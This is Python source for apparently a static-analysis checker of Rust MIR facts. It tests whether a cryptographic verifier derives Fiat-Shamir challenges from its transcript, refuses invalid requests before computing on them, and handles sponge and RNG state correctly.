            "squeeze_native_field_elements", "squeeze_native_field_elements_with_sizes")


def squeeze_derived(ctx, g):
    f = ctx.facts
    starts = []
    for bid in g.scope:
        for i, t in f.bodies[bid].calls():
            c = t.get("callee") or ""
            if t.get("callee_trait") == T.SPONGE_TRAIT and c.rsplit("::", 1)[-1] in SQUEEZES:
                starts.append(("CALLRES", bid, i))
    par = g.reach(starts, kinds=(DATA, ALIAS))
    return {st[0] for st in par}, len(starts)


def _events(b, local):
    """per block: ordered list of ('def', idx, sources) / ('use', idx) events for `local` (whole-local defs only)."""
    ev = {}
    for i, blk in enumerate(b.blocks):
        lst = []
        for k, st in enumerate(blk["stmts"]):
            rv = st["rv"]
            kk = rv.get("k")
            if kk in ("ref", "discr", "rawptr"):
                reads = [rv["pl"]["l"]]
            else:
                reads = [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
            # a mutable borrow `&mut local` followed by a call is a read-modify-write, count it as a use
            if local in reads:
                lst.append(("use", k))
            if st["dst"]["l"] == local and not st["dst"]["p"]:
                lst.append(("def", k, [r for r in reads]))
            elif st["dst"]["l"] == local and st["dst"]["p"]:
                lst.append(("use", k))
        t = blk["term"]
        if t["k"] == "call":
            if any(a["k"] in ("copy", "move") and a["pl"]["l"] == local for a in t["args"]):
                lst.append(("use", 10 ** 6))
            if t["dst"]["l"] == local and not t["dst"]["p"]:
                lst.append(("def", 10 ** 6 + 1, [a["pl"]["l"] for a in t["args"] if a["k"] in ("copy", "move")], i))
        elif t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move") and t["op"]["pl"]["l"] == local:
            lst.append(("use", 10 ** 6))
        if lst:
            ev[i] = lst
    return ev


def check_body(ctx, g, bid, sq):
    f = ctx.facts
    b = f.bodies[bid]
    out = []
    reach = b.reachable()
    succ = b.succ()
    for local, loc in enumerate(b.locals):
        if strip_refs(loc["ty"]) not in T.SCALARS or loc["ty"].startswith("&"):
            continue
        ev = _events(b, local)
        defs = [(i, e) for i, l in ev.items() for e in l if e[0] == "def" and i in reach and not b.blocks[i]["cleanup"]]
        if len(defs) < 2:
            continue

        def derived(i, e):
            if len(e) > 3:   # call definition
                if ("CALLRES", bid, e[3]) in sq:
                    return True
                # a local helper or closure that returns a squeezed challenge
                t = b.blocks[e[3]]["term"]
                tg = list(f.call_targets(t, g.ctx_adt))
                if t.get("self_closure"):
                    tg.append(t["self_closure"])
                if any((x, 0) in sq for x in tg):
                    return True
            return any((bid, s) in sq for s in e[2])
        good = [(i, e) for (i, e) in defs if derived(i, e)]
        bad = [(i, e) for (i, e) in defs if not derived(i, e)]
        if not good or not bad:
            continue
        for (i, e) in bad:
            # does this definition reach a use?
            hit = None
            later = [x for x in ev[i] if x[1] > e[1]]
            killed = False
            for x in later:
                if x[0] == "use":
                    hit = i
                    break
                if x[0] == "def":
                    killed = True
                    break
            if hit is None and not killed:
                seen = set()
                st = list(succ[i])
                while st and hit is None:
                    y = st.pop()
                    if y in seen:
                        continue
                    seen.add(y)
                    stop = False
                    for x in ev.get(y, ()):
                        if x[0] == "use":
                            hit = y
                            break
                        if x[0] == "def":
                            stop = True
                            break
                    if hit is None and not stop:
                        st.extend(succ[y])
            if hit is not None:
                out.append((local, i, hit))
                break
    return out


def run(rep, ctx, anchor, rule="R1all"):
    g = ctx.graph(anchor)
    f = ctx.facts
    sq, nsq = squeeze_derived(ctx, g)
    bad = []
    cand = 0
    for bid in sorted(g.scope):
        r = check_body(ctx, g, bid, sq)
        for (local, d, u) in r:
            b = f.bodies[bid]
            nm = b.locals[local].get("name") or "_%d" % local
            bad.append((nm, bid, d, u))
    if not bad:
        rep.add(rule, "%s:challenge-variables" % anchor.key, True,
                "every variable that holds a squeezed challenge on some path holds one at each of its uses (%d squeeze sites)" % nsq,
                anchor.body.span, nontrivial=nsq > 0)
    for nm, bid, d, u in bad:
        rep.add(rule, "%s:challenge-variable:%s@%s" % (anchor.key, nm, short(bid)), False,
                "`%s` is assigned a squeezed challenge elsewhere, but the definition at %s (not derived from the transcript) "
                "reaches its use at %s: that element is combined with a constant and is not bound to the transcript" % (
                    nm, where_of(f, bid, d), where_of(f, bid, u)), where_of(f, bid, d))
    return nsq


# ---------------------------------------------------------------------------------------------------------
# R1ret: a helper that derives challenges from the transcript does so on every (non-refusing) return
def run_returns(rep, ctx, anchor, rule="R1ret"):
    """helpers in the verifier's scope that receive the sponge and return a squeeze-derived value on some path:
    every other value they return (an `Ok(..)`, a plain value) must be squeeze-derived too. A shortcut such as
    `if t >= n { return Ok((0..n).collect()) }` hands out "challenges" the transcript has no say in."""
    g = ctx.graph(anchor)
    f = ctx.facts
    sq, nsq = squeeze_derived(ctx, g)
    n = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        if bid == anchor.body.id or b.kind == "Closure":
            continue
        if not any(T.SPONGE_TRAIT in (b.locals[i].get("bounds") or ()) or "CryptographicSponge" in (b.locals[i]["ty"] or "")
                   for i in range(1, b.arg_count + 1)):
            continue
        rty = b.locals[0]["ty"] or ""
        inner = rty[len("std::result::Result<"):].rsplit(", ", 1)[0] if rty.startswith("std::result::Result<") else rty
        # only helpers that hand out challenge *data* (indices, scalars, bytes); verdicts and check objects are
        # other rules' business
        elem = inner[len("std::vec::Vec<"):-1] if inner.startswith("std::vec::Vec<") and inner.endswith(">") else inner
        if not (elem in ("usize", "u8", "u64", "u32", "u128", "F") or elem in T.SCALARS):
            continue
        if (bid, 0) not in sq:
            continue
        n += 1
        bad = None
        for i, blk in enumerate(b.blocks):
            if blk["cleanup"] or i not in b.reachable():
                continue
            for st in blk["stmts"]:
                if st["dst"]["l"] != 0 or st["dst"]["p"]:
                    continue
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("variant") == "Err":
                    continue
                srcs = [rv["pl"]["l"]] if rv.get("k") in ("ref", "rawptr", "discr") else \
                    [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
                if not any((bid, l) in sq for l in srcs):
                    bad = "%s:%s" % (b.file(), st.get("line"))
            t = blk["term"]
            if t["k"] == "call" and t["dst"]["l"] == 0 and not t["dst"]["p"]:
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if nm == "from_residual":
                    continue
                if not any(a["k"] in ("copy", "move") and (bid, a["pl"]["l"]) in sq for a in t["args"]):
                    bad = t["span"]
        rep.add(rule, "%s:returns-challenges:%s" % (anchor.key, short(bid)), bad is None,
                "every value %s returns is derived from the transcript" % short(bid) if bad is None else
                "%s returns, at %s, a value that is not derived from the transcript although its other returns are: "
                "on that path the challenge is fixed in advance" % (short(bid), bad), bad or b.span)
    return n


# ---------------------------------------------------------------------------------------------------------
# R7c: transcript operations act on the caller's sponge, not on a copy of it
def run_sponge_identity(rep, ctx, anchor, rule="R7c"):
    """every absorb / squeeze in the verifier's scope has, as its receiver, (a reborrow of) the sponge the entry point
    was handed - traced backwards over moves, reborrows and parameter passing only. An operation on `sponge.clone()`
    leaves the caller's transcript where it was: the next proof of the sequence is made and checked under the same
    state, so proofs can be replayed or swapped."""
    g = ctx.graph(anchor)
    f = ctx.facts
    idx = anchor.roles.get("sponge")
    if idx is None:
        return 0
    from collections import deque
    from ..flow import MOVE
    from .lenguard import _rev
    root = (anchor.body.id, idx)
    rev = _rev(g)
    bad = None
    n = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if t.get("callee_trait") != T.SPONGE_TRAIT or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm != "absorb" and nm not in SQUEEZES:
                continue
            n += 1
            start = (bid, t["args"][0]["pl"]["l"])
            seen = {start}
            dq = deque([start])
            ok = False
            while dq and not ok:
                x = dq.popleft()
                if x == root:
                    ok = True
                    break
                for (a, e) in rev.get(x, ()):
                    if e.kind != DATA or e.op not in (MOVE, "field", "hof") or a in seen:
                        continue
                    if not (isinstance(a, tuple) and len(a) == 2 and a[0] in f.bodies):
                        continue
                    seen.add(a)
                    dq.append(a)
            if not ok:
                bad = t["span"]
    rep.add(rule, "%s:operates-on-the-callers-sponge" % anchor.key, bad is None,
            "all %d transcript operations act on the sponge the entry point was handed" % n if bad is None else
            "the transcript operation at %s acts on a sponge that is not (a reborrow of) the caller's: the caller's "
            "transcript does not advance" % bad, bad or anchor.body.span)
    return n
