"""R5 REFUSAL / R6 DOMINATES.

R5: in the scope of an API entry point, the named `Error` variant is constructed, the constructed error can reach
the entry point's outcome (it is propagated, not swallowed), and the construction (or the lookup it is attached
to) depends on the request parameter named in the row.
R6a: a refusal site dominates every payload operation (multi-scalar multiplication, ...) of the entry point, so
the request is admitted before anything is computed from it.
"""
from collections import deque

from ..engine import short, where_of
from ..flow import CTRL, DATA, MOVE, OUTCOME
from . import lenguard as LG

ERR = "error::Error"


def error_sites(g, variant):
    """(body, block index, stmt dst local) of every construction of Error::<variant> in scope."""
    f = g.facts
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        reach = b.reachable()
        for i, blk in enumerate(b.blocks):
            if i not in reach or blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("adt") == ERR and rv.get("variant") == variant:
                    out.append((bid, i, st["dst"]["l"]))
    return out


def carriers(g, node, depth=4):
    """nodes that carry the constructed error onwards (moves, Err(..) wrapping, ok_or results)."""
    seen = {node}
    dq = deque([(node, 0)])
    while dq:
        n, d = dq.popleft()
        if d >= depth:
            continue
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME or e.dst in seen:
                continue
            if not (isinstance(e.dst, tuple) and e.dst[0] == node[0]) or e.dst[1] == 0:
                continue    # the return place mixes the error with the success value: not a carrier
            if e.op in (MOVE, "foreign", "hof"):
                seen.add(e.dst)
                dq.append((e.dst, d + 1))
    return seen


def leads_to(g, site):
    """body -> set of blocks of that body through which control reaches `site` = (body, block):
    the block itself in its own body, and in every caller the blocks of the calls that (transitively) enter
    the site's body (closures count as entered where they are created or handed on)."""
    f = g.facts
    sb, sblk = site
    res = {sb: {sblk}}
    memo = {}
    for bid in g.scope:
        if bid == sb:
            continue
        b = f.bodies[bid]
        blocks = set()
        for i, t in b.calls():
            tg = set(f.call_targets(t, g.ctx_adt))
            if t.get("self_closure"):
                tg.add(t["self_closure"])
            for a in t["args"]:
                if a["k"] in ("copy", "move"):
                    c = b.locals[a["pl"]["l"]].get("closure")
                    if c:
                        tg.add(c)
                elif a.get("fn"):
                    tg.add(a["fn"])
            if any(x in g.scope and (x == sb or LG._reaches_body(f, g, x, sb, memo)) for x in tg):
                blocks.add(i)
        if blocks:
            res[bid] = blocks
    return res


def _loop_admission(b, r, p):
    """r sits in a loop that cannot complete an iteration without executing r, and p comes after that loop:
    every element the loop handles has passed r before control reaches p (zero iterations = nothing to admit)."""
    from .rng import cyclic_blocks
    cyc = cyclic_blocks(b)
    if r not in cyc or p in _scc_of(b, r):
        return False
    scc = _scc_of(b, r)
    succ = b.succ()
    # header: the block of the SCC that dominates all of it
    headers = [h for h in scc if all(b.dominates(h, x) for x in scc)]
    if not headers:
        return False
    h = headers[0]
    if not b.dominates(h, p):
        return False
    latches = [x for x in scc if h in succ[x]]
    return bool(latches) and all(b.dominates(r, x) for x in latches)


def _scc_of(b, v):
    """strongly connected component of block v in b's CFG."""
    succ = b.succ()
    pred = b.pred()

    def reach(start, adj):
        seen = {start}
        st = [start]
        while st:
            x = st.pop()
            for y in adj[x]:
                if y not in seen:
                    seen.add(y)
                    st.append(y)
        return seen
    return reach(v, succ) & reach(v, pred)


def dominated_by(g, guard_site, use_site):
    """does control pass the guard before it can reach the use? decided in some common body."""
    f = g.facts
    gl = leads_to(g, guard_site)
    ul = leads_to(g, use_site)
    for bid in gl:
        if bid not in ul:
            continue
        b = f.bodies[bid]
        ok = True
        for u in ul[bid]:
            if not any(gb != u and (b.dominates(gb, u) or _loop_admission(b, gb, u)) for gb in gl[bid]):
                ok = False
                break
        if ok:
            return True
    return False


def _nesting_conditions(body, x):
    """branch blocks the block x is nested under: its direct control dependences, and - transitively - those of the
    branches above whose *other* arm goes on normally (`if let Some(b) = bound { if n != 1 { refuse } }`: the refusal
    is conditioned on both tests). A branch whose other arm only refuses or leaves (`lookup(..)?` before the test) is
    an earlier exit, not a condition of this refusal, and ends the climb."""
    from .meet import _refusing_blocks
    cd = body.control_deps()
    succ = body.succ()
    refusing = None
    out = set(cd.get(x, ()))
    work = list(out)
    seen = set(out)
    while work:
        c = work.pop()
        for c2 in cd.get(c, ()):
            if c2 in seen:
                continue
            seen.add(c2)
            if refusing is None:
                refusing = _refusing_blocks(body)
            # arms of c2 that do not lead to c: does one of them go on to a normal return?
            def reaches(start, goal, block=()):
                st, sn = [start], set()
                while st:
                    y = st.pop()
                    if y == goal:
                        return True
                    if y in sn or y in block:
                        continue
                    sn.add(y)
                    st.extend(succ[y])
                return False
            others = [a for a in succ[c2] if not reaches(a, c, (c2,))]
            goes_on = False
            for a in others:
                st, sn = [a], set()
                while st and not goes_on:
                    y = st.pop()
                    if y in sn or y in refusing or body.blocks[y]["cleanup"]:
                        continue
                    sn.add(y)
                    if body.blocks[y]["term"]["k"] == "return" or y == c2:
                        goes_on = True
                        break
                    st.extend(succ[y])
            if goes_on:
                out.add(c2)
                work.append(c2)
    return out


def _return_variant_conditions(g, conds, depth=2):
    """for condition nodes data-derived from the return value of a crate function: the operands of the branches that
    directly control an assignment of that function's return place."""
    f = g.facts
    rev = LG._rev(g)
    out = set()
    cur = set(conds)
    for _ in range(depth):
        helpers = set()
        for c in cur:
            if not (isinstance(c, tuple) and len(c) == 2 and isinstance(c[1], int)):
                continue
            seen, st = {c}, [c]
            while st and len(seen) < 80:
                n = st.pop()
                for (a, e) in rev.get(n, ()):
                    if e.kind != DATA or a in seen:
                        continue
                    seen.add(a)
                    if isinstance(a, tuple) and len(a) == 2 and a[1] == 0 and a[0] in f.bodies and a[0] != c[0] and f.bodies[a[0]].kind != "Closure":
                        helpers.add(a[0])
                    elif isinstance(a, tuple) and len(a) == 2 and isinstance(a[1], int) and a[0] == c[0]:
                        st.append(a)
        nxt = set()
        for h in helpers:
            hb = f.bodies[h]
            cd = hb.control_deps()
            for i, blk in enumerate(hb.blocks):
                writes = any(st_["dst"]["l"] == 0 for st_ in blk["stmts"]) or (blk["term"]["k"] == "call" and blk["term"]["dst"]["l"] == 0)
                if not writes:
                    continue
                for cblk in cd.get(i, ()):
                    t = hb.blocks[cblk]["term"]
                    if t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move"):
                        nxt.add((h, t["op"]["pl"]["l"]))
        nxt -= out
        out |= nxt
        cur = nxt
        if not nxt:
            break
    return out


def check_row(rep, ctx, rule, key, anchor_body, ctx_adt, variants, request_locals, payload_callees=None, g=None,
              need_all=True):
    """variants: Error variant names (each must be present unless need_all is False: then one suffices).
    request_locals: parameter indices of the entry point that carry the request."""
    from ..flow import Graph
    f = ctx.facts
    if g is None:
        scope = f.closure([anchor_body.id], ctx_adt)
        g = Graph(f, scope, [anchor_body.id], ctx_adt)
    # request_locals: parameter indices, or a list of groups of indices: the refusal must depend on every group
    groups = request_locals if request_locals and isinstance(request_locals[0], (list, tuple)) else [request_locals]
    req_sets = []
    from ..flow import ALIAS
    for grp in groups:
        # data dependence only: every later statement is control dependent on every earlier early return, which says
        # nothing about what *this* refusal looks at
        par = g.reach([(anchor_body.id, i) for i in grp if i <= anchor_body.arg_count], kinds=(DATA, ALIAS))
        req_sets.append({st[0] for st in par})
    good_sites = []
    results = []
    for v in variants:
        sites = error_sites(g, v)
        live = []
        dep = []
        for (bid, blk, l) in sites:
            n = (bid, l)
            g.reach([n], want=OUTCOME)
            if g.last_goal is None:
                continue
            live.append((bid, blk))
            cs = set(carriers(g, n))
            # what the refusal is conditioned on: the branches its block directly depends on, here and (for a
            # refusal inside a helper or closure) at the calls leading to it
            for (cb, cblks) in leads_to(g, (bid, blk)).items():
                body = f.bodies[cb]
                for x in cblks:
                    for c in _nesting_conditions(body, x):
                        t = body.blocks[c]["term"]
                        if t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move"):
                            cs.add((cb, t["op"]["pl"]["l"]))
            # a condition that tests which variant a crate helper returned (`match helper(..) { Err(_) => refuse }`)
            # stands for the tests that decide, inside the helper, which value it returns
            cs |= _return_variant_conditions(g, cs)
            if all(cs & rs for rs in req_sets):
                dep.append((bid, blk))
        ok = bool(dep)
        results.append((v, ok, len(sites), len(live), dep))
        good_sites.extend(dep)
    if need_all:
        for v, ok, ns, nl, dep in results:
            if ok:
                detail = "Error::%s is constructed at %s depending on the request, and propagated" % (v, where_of(f, *dep[0]))
            elif ns == 0:
                detail = "Error::%s is never constructed in %s or its callees: the request is not refused" % (v, short(anchor_body.id))
            elif nl == 0:
                detail = "Error::%s is constructed but cannot reach the result of %s (swallowed)" % (v, short(anchor_body.id))
            else:
                detail = "Error::%s is constructed but not in dependence of the request parameter(s)" % v
            rep.add(rule, "%s:refuses:%s" % (key, v), ok, detail, anchor_body.span)
    else:
        ok = any(r[1] for r in results)
        rep.add(rule, "%s:refuses:%s" % (key, "|".join(variants)), ok,
                ("one of Error::{%s} is constructed depending on the request and propagated" % ",".join(variants)) if ok else
                ("none of Error::{%s} is constructed, request-dependent and propagated in %s" % (",".join(variants), short(anchor_body.id))),
                anchor_body.span)
    if payload_callees:
        psites = []
        for bid in sorted(g.scope):
            for i, t in f.bodies[bid].calls():
                c = t.get("callee") or ""
                if c in payload_callees or c.rsplit("::", 1)[-1] in payload_callees:
                    psites.append((bid, i, t))
        rep.count("payload_sites", len(psites))
        if not psites:
            rep.add("R6a", "%s:admission-first" % key, False,
                    "no payload operation (%s) found in %s (fail closed)" % ("/".join(sorted(payload_callees)), short(anchor_body.id)),
                    anchor_body.span)
        else:
            bad = []
            for (bid, i, t) in psites:
                if not any(dominated_by(g, gs, (bid, i)) for gs in good_sites):
                    bad.append(t["span"])
            rep.add("R6a", "%s:admission-first" % key, not bad,
                    ("every payload operation (%d) is preceded by a refusal site on all paths" % len(psites)) if not bad else
                    ("payload operation(s) at %s can be reached without passing an admission check" % ", ".join(bad[:3])),
                    bad[0] if bad else anchor_body.span)
    return g



# ---------------------------------------------------------------------------------------------------------
# R5m: the admission must observe the size of the request object itself, not of something derived from it
EXACT_NAMES = ("iter", "into_iter", "as_ref", "deref", "borrow", "clone", "as_slice", "polynomial", "next", "zip",
               "enumerate", "unwrap", "expect", "branch", "by_ref", "as_deref", "cloned", "copied", "rev")


def exact_views(g, start):
    """forward over moves, parameter passing and view / element-extraction calls: aliases of (parts of) the value."""
    seen = {start}
    dq = deque([start])
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME or e.dst in seen:
                continue
            if not (isinstance(e.dst, tuple) and len(e.dst) == 2 and isinstance(e.dst[1], int) and e.dst[1] >= 0):
                continue
            ok = e.op in (MOVE, "hof", "field") or (e.op == "foreign" and LG._is_result_edge(g, e)
                                                     and LG._callee_name(g, e) in EXACT_NAMES)
            if ok:
                seen.add(e.dst)
                dq.append(e.dst)
    return seen


def size_observations(g, nodes):
    """integers read off the given values: lengths and results of integer-returning calls on them (degree(),
    num_vars(), size()), closed under data flow."""
    seeds = set()
    for a in nodes:
        for e in g.fwd.get(a, ()):
            if e.kind != DATA or e.dst == OUTCOME:
                continue
            ty = g.node_ty(e.dst)
            if e.op == "shape" or (e.op == "foreign" and ty in ("usize", "u64", "u32")):
                seeds.add(e.dst)
    return LG.data_closure(g, seeds, limit=600)


def controlling_conditions(g, bid, blk):
    """condition locals of the branches the block is (transitively) control dependent on, within its body."""
    b = g.facts.bodies[bid]
    cd = b.control_deps()
    out = set()
    seen = set()
    st = [blk]
    while st:
        x = st.pop()
        for c in cd.get(x, ()):
            if c in seen:
                continue
            seen.add(c)
            t = b.blocks[c]["term"]
            if t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move"):
                out.add((bid, t["op"]["pl"]["l"]))
            st.append(c)
    return out


def check_measured(rep, ctx, rule, key, anchor_body, ctx_adt, variant, param_idx, what, g=None):
    from ..flow import Graph
    f = ctx.facts
    if g is None:
        g = Graph(f, f.closure([anchor_body.id], ctx_adt), [anchor_body.id], ctx_adt)
    obs = size_observations(g, exact_views(g, (anchor_body.id, param_idx)))
    sites = error_sites(g, variant)
    ok_sites = []
    for (bid, blk, l) in sites:
        g.reach([(bid, l)], want=OUTCOME)
        if g.last_goal is None:
            continue
        if controlling_conditions(g, bid, blk) & obs:
            ok_sites.append((bid, blk))
    rep.add(rule, "%s:measures:%s:%s" % (key, variant, what), bool(ok_sites),
            ("Error::%s is raised on a condition computed from the size of the %s itself (%s)" % (variant, what, where_of(f, *ok_sites[0])))
            if ok_sites else
            ("no Error::%s in %s is conditioned on a size observation of the %s itself (%d construction site(s) look only at "
             "derived objects): a request just beyond the limit can slip through" % (variant, short(anchor_body.id), what, len(sites))),
            anchor_body.span)
    return g


# ---------------------------------------------------------------------------------------------------------
# R5p: an admission over a caller-supplied list must not look at one position of the *unsorted* list
POSITIONAL = ("last", "first", "split_last", "split_first", "last_mut", "first_mut")
ALIAS_NAMES = ("iter", "as_ref", "deref", "borrow", "as_slice", "unwrap", "expect", "branch", "as_deref", "by_ref")


def positional_selections(g, start):
    """calls of first()/last()/.. on an alias of the parameter itself (a sorted / de-duplicated copy made with
    to_vec() or clone() is a different value and not followed)."""
    f = g.facts
    seen = {start}
    dq = deque([start])
    hits = []
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME:
                continue
            if not (isinstance(e.dst, tuple) and len(e.dst) == 2 and isinstance(e.dst[1], int) and e.dst[1] >= 0):
                continue
            nm = LG._callee_name(g, e) if e.op == "foreign" else None
            if nm in POSITIONAL and LG._is_result_edge(g, e):
                hits.append((e.site, e.dst))
                continue
            ok = e.op in (MOVE, "hof", "field") or (e.op == "foreign" and LG._is_result_edge(g, e) and nm in ALIAS_NAMES)
            if ok and e.dst not in seen:
                seen.add(e.dst)
                dq.append(e.dst)
    return hits


def check_not_positional(rep, ctx, rule, key, anchor_body, ctx_adt, param_idx, what):
    from ..flow import Graph
    f = ctx.facts
    g = Graph(f, f.closure([anchor_body.id], ctx_adt), [anchor_body.id], ctx_adt)
    hits = positional_selections(g, (anchor_body.id, param_idx))
    conds = {c for (_, _, c) in LG.branch_conditions(g)}
    bad = []
    for site, dst in hits:
        derived = LG.data_closure(g, {dst}, limit=300)
        if derived & conds:
            bad.append(site)
    rep.add(rule, "%s:no-positional-admission:%s" % (key, what), not bad,
            ("no admission decision is taken from a single position of the caller's %s" % what) if not bad else
            ("a refusal condition is computed from first()/last() of the caller's own %s (at %s): the list is not "
             "required to be sorted, so an out-of-range element elsewhere in it is not refused" % (what, where_of(f, *bad[0]))),
            where_of(f, *bad[0]) if bad else anchor_body.span)
    return g


# ---------------------------------------------------------------------------------------------------------
# R5a: a refusal by abort
PANICS = ("panic", "panic_fmt", "begin_panic", "assert_failed", "panic_display", "panic_str", "unreachable_display", "expect_failed",
          "unwrap_failed")


def check_abort(rep, ctx, rule, key, anchor_body, ctx_adt, starts, what):
    """some abort (an explicit panic / failed `assert!`) in the entry point's scope is nested under a test of a value
    derived from `starts`: the request that the code refuses by aborting is still refused. Returns #abort sites."""
    from ..flow import Graph, ALIAS
    f = ctx.facts
    g = Graph(f, f.closure([anchor_body.id], ctx_adt), [anchor_body.id], ctx_adt)
    starts = [s_ for s_ in starts if (s_[1] if isinstance(s_, tuple) and s_ and s_[0] == "STATE" else s_) in g.fwd]
    reached = {st[0] for st in g.reach(starts, kinds=(DATA, ALIAS))} if starts else set()
    n = 0
    good = None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if b.blocks[i]["cleanup"] or (t.get("callee") or "").rsplit("::", 1)[-1] not in PANICS:
                continue
            n += 1
            for c in _nesting_conditions(b, i):
                tt = b.blocks[c]["term"]
                if tt["k"] in ("switch", "assert") and tt["op"]["k"] in ("copy", "move") and (bid, tt["op"]["pl"]["l"]) in reached:
                    good = good or t["span"]
    rep.add(rule, "%s:aborts-on:%s" % (key, what.replace(" ", "-")), good is not None,
            ("the abort at %s is conditioned on %s" % (good, what)) if good else
            ("no abort in %s is conditioned on %s (%d abort sites examined): the request that used to be refused by an "
             "assertion is now answered" % (short(anchor_body.id), what, n)), anchor_body.span)
    return n


# ---------------------------------------------------------------------------------------------------------
# R5f: the request reaches the admission and the keys unfiltered
DROPPERS = ("retain", "retain_mut", "filter", "filter_map", "take_while", "skip_while", "truncate", "drain", "split_off", "pop",
            "take", "skip", "step_by", "swap_remove", "remove", "extract_if", "drain_filter")


def check_unfiltered(rep, ctx, rule, key, anchor_body, ctx_adt, param_idx, what, starts=None):
    """no element-dropping operation is applied to (a copy / view of) the request list before it is judged and used:
    `v.retain(|b| *b <= cap)` in front of an "unsupported bound" refusal makes that refusal dead and silently answers a
    request that had to be refused. `sort` / `dedup` keep every distinct element and are fine."""
    from ..flow import Graph
    f = ctx.facts
    g = Graph(f, f.closure([anchor_body.id], ctx_adt), [anchor_body.id], ctx_adt)
    # views and copies of the list: container-preserving moves plus `to_vec` / `clone` / `unwrap` / `map` over the Option
    seen = set(starts) if starts is not None else {(anchor_body.id, param_idx)}
    dq = deque(seen)
    COPY = ("copied", "enumerate", "rev", "by_ref", "peekable", "from_residual", "to_vec", "clone", "to_owned", "unwrap", "expect", "as_ref", "as_deref", "map", "unwrap_or_default", "cloned", "into",
            "as_slice", "deref", "deref_mut", "as_mut", "iter", "into_iter", "collect", "sorted", "branch", "ok_or")
    while dq:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME or e.dst in seen:
                continue
            ok = e.op in (MOVE, "field", "hof") or (e.op == "foreign" and LG._is_result_edge(g, e) and
                                                     (LG._callee_name(g, e) in COPY or LG._callee_name(g, e) in LG.CONTAINER_PRESERVING))
            if ok and isinstance(e.dst, tuple) and len(e.dst) == 2:
                seen.add(e.dst)
                dq.append(e.dst)
    bad = None
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm in DROPPERS and t["args"] and t["args"][0]["k"] in ("copy", "move") and not b.blocks[i]["cleanup"]:
                a0 = t["args"][0]["pl"]["l"]
                if "option::Option" in (t.get("callee") or "") or (b.locals[a0]["ty"] or "").lstrip("&mut ").startswith("std::option::Option<"):
                    continue      # `Option::filter` / `Option::take` on the optional list as a whole drop no element of it
                roots = {a0}
                for blk in b.blocks:
                    for st in blk["stmts"]:
                        if st["dst"]["l"] in roots and st["rv"].get("k") == "ref":
                            roots.add(st["rv"]["pl"]["l"])
                if any((bid, r) in seen for r in roots) and bad is None:
                    bad = (nm, t["span"])
    rep.add(rule, "%s:request-unfiltered:%s" % (key, what.replace(" ", "-")), bad is None,
            ("no element-dropping operation is applied to the %s before they are judged and used" % what) if bad is None else
            ("`%s` at %s drops elements of the %s before they are judged: what it drops is neither refused nor served" % (bad[0], bad[1], what)),
            bad[1] if bad else anchor_body.span)
