"""RNG helpers: which locals are generators, where randomness is drawn, loop membership."""
from .. import tables as T
from ..flow import strip_refs

RNG_MARK = ("RngCore", "CryptoRng")


def is_rng_ty(ty, bounds=None):
    if ty is None:
        return False
    if any(m in ty for m in RNG_MARK) or "OptionalRng" in ty or "ThreadRng" in ty or "StdRng" in ty or "ChaCha" in ty:
        return True
    if bounds:
        return any(b.endswith("RngCore") or b.endswith("::Rng") or b.endswith("CryptoRng") for b in bounds)
    return False


def is_rng_local(b, l):
    """the driver marks every local whose type (references / Option peeled) implements rand_core::RngCore;
    the name heuristics only back that up for types the trait solver could not decide."""
    loc = b.locals[l]
    return bool(loc.get("rng")) or is_rng_ty(loc["ty"], loc.get("bounds"))


def draw_sites(facts, scope, ctx_adt=None):
    """(body id, block, terminator) of every call into another crate that takes a generator and returns
    something that is not a generator: a draw of randomness."""
    out = []
    for bid in sorted(scope):
        b = facts.bodies[bid]
        for i, t in b.calls():
            if facts.call_targets(t, ctx_adt):
                continue
            args = [a["pl"]["l"] for a in t["args"] if a["k"] in ("copy", "move")]
            if not any(is_rng_local(b, l) for l in args):
                continue
            dl = t["dst"]["l"]
            if is_rng_local(b, dl):
                continue       # carrier: as_mut, unwrap, reborrow, Some(..)
            name = (t.get("callee") or "").rsplit("::", 1)[-1]
            if name in ("drop", "is_some", "is_none", "as_mut", "as_ref", "unwrap", "expect", "map", "ok_or"):
                continue
            out.append((bid, i, t))
    return out


def cyclic_blocks(b):
    """blocks of body b that lie on a CFG cycle (inside some loop)."""
    succ = b.succ()
    n = len(succ)
    index = {}
    low = {}
    onst = set()
    st = []
    out = set()
    counter = [0]

    def strong(v):
        # iterative Tarjan
        work = [(v, 0)]
        while work:
            v, pi = work[-1]
            if pi == 0:
                index[v] = low[v] = counter[0]
                counter[0] += 1
                st.append(v)
                onst.add(v)
            recurse = False
            ss = succ[v]
            for j in range(pi, len(ss)):
                w = ss[j]
                if w not in index:
                    work[-1] = (v, j + 1)
                    work.append((w, 0))
                    recurse = True
                    break
                elif w in onst:
                    low[v] = min(low[v], index[w])
            if recurse:
                continue
            if low[v] == index[v]:
                comp = []
                while True:
                    w = st.pop()
                    onst.discard(w)
                    comp.append(w)
                    if w == v:
                        break
                if len(comp) > 1 or v in succ[v]:
                    out.update(comp)
            work.pop()
            if work:
                u, _ = work[-1]
                low[u] = min(low[u], low[v])

    for v in b.reachable():
        if v not in index:
            strong(v)
    return out
